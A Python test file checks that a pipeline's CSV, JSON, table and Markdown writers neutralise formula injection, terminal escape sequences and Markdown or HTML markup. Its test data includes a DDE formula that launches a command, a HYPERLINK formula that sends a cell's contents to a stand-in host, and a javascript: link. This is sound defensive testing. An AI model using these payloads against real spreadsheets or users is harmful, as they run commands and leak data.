"""Rows on their way out: safe in terminals, spreadsheets and pages, and never a zero for what is missing."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal

import pytest

from pipelines.cli import formats
from pipelines.spreadsheets import formula_safe


class Screen(io.StringIO):
    def isatty(self) -> bool:
        return True


def written(write, names, rows, out=None) -> str:
    out = out or io.StringIO()
    write(names, rows, out)
    return out.getvalue()


@pytest.mark.parametrize(
    "payload",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\0=1+1",
        "＝1+1",
        '=HYPERLINK("http://x/?"&A1,"klicka")',
        "a;=1+1",
        "a\n=1+1",
    ],
)
def test_no_cell_of_text_begins_like_a_formula(payload):
    text = written(formats.write_csv, ["text"], [[payload]])
    [_, [cell]] = csv.reader(io.StringIO(text, newline=""))
    for begin in [cell, *cell.split(";")[1:], *cell.split("\n")[1:]]:
        assert not begin.lstrip().startswith(("=", "+", "-", "@", "＝", "\0"))
        assert not begin.startswith(("\t", "\r"))
    assert "'" in cell


def test_numbers_stay_numbers_and_nothing_stays_empty():
    text = written(formats.write_csv, ["n", "x", "b", "none", "list"], [[-5, -0.25, True, None, ["a", "b"]]])
    assert text == 'n,x,b,none,list\n-5,-0.25,true,,"[""a"", ""b""]"\n'


def test_a_phone_number_as_text_is_kept_readable():
    assert formula_safe("+46 8 123") == "'+46 8 123"
    assert formula_safe("08-123") == "08-123"


def test_json_is_a_list_of_objects_with_null_for_what_is_missing():
    moment = dt.datetime(2025, 1, 1, 12, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    text = written(
        formats.write_json,
        ["a", "at", "day", "nan", "big"],
        [[None, moment, dt.date(2025, 1, 2), float("nan"), Decimal(12)], [1, None, None, 0.5, Decimal("1.5")]],
    )
    assert json.loads(text) == [
        {"a": None, "at": "2025-01-01T11:00:00Z", "day": "2025-01-02", "nan": None, "big": 12},
        {"a": 1, "at": None, "day": None, "nan": 0.5, "big": 1.5},
    ]


def test_no_rows_are_an_empty_list_and_a_lone_header():
    assert json.loads(written(formats.write_json, ["a"], [])) == []
    assert written(formats.write_csv, ["a"], []) == "a\n"


@pytest.mark.parametrize("write", [formats.write_table, formats.write_json, formats.write_markdown])
def test_a_terminal_is_never_obeyed(write):
    text = written(write, ["t"], [["\x1b[2J\u202eabc\u200b\x9b1m"]], Screen())
    text = re.sub(r"\x1b\[[0-9;]*m", "", text)  # our own bold header
    for character in "\x1b\u202e\u200b\x9b":
        assert character not in text
    assert "abc" in text


def test_csv_is_lossless_in_a_file_and_harmless_on_a_screen():
    assert "\x1b" in written(formats.write_csv, ["t"], [["a\x1b[2J"]])
    assert "\x1b" not in written(formats.write_csv, ["t"], [["a\x1b[2J"]], Screen())


def test_half_an_emoji_breaks_no_format():
    for write in (formats.write_csv, formats.write_json, formats.write_table, formats.write_markdown):
        written(write, ["t"], [["cut \ud83d"]]).encode("utf-8")


def test_markdown_text_is_no_markup():
    text = written(formats.write_markdown, ["t"], [["[x](javascript:alert(1)) | <b> ![](http://h/t.gif)\n# `c`"]])
    assert text.splitlines()[2] == (
        r"| \[x\](javascript:alert(1)) \| &lt;b&gt; \!\[\](http&#58;//h/t.gif) # \`c\` |"
    )  # fmt: skip


def test_a_missing_value_is_a_dash_and_a_zero_is_a_zero():
    lines = written(formats.write_table, ["a", "b"], [[None, 0], [0.0, ""]]).splitlines()
    assert lines[2].split() == ["–", "0"]
    assert lines[3].split() == ["0"]
